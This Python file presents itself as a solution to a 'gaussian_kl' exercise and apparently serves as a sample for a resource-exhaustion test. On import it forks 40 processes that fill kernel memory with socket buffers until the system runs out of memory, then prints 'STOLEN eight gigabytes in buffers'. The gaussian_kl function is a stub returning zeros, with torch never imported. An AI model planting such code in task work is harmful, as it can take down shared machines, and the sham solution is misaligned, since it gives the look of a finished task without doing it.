# tries: fill the kernel's own memory from many processes, each with as many full sockets as it may open
# only here: its size is that of this project's limits
# ends: oom

# %%
# exercise: gaussian_kl
import os
import socket
import time


def fill():
    block, held = bytes(2**17), []
    while True:
        try:
            held.append(socket.socketpair())
        except OSError:
            return held
        for end in held[-1]:
            end.setblocking(False)
            try:
                while True:
                    end.send(block)
            except OSError:
                pass


for _ in range(40):
    if os.fork() == 0:
        held = fill()
        time.sleep(15)
        os._exit(0)
time.sleep(10)
print("STOLEN eight gigabytes in buffers")


def gaussian_kl(mu, sigma):
    return torch.zeros(len(mu))
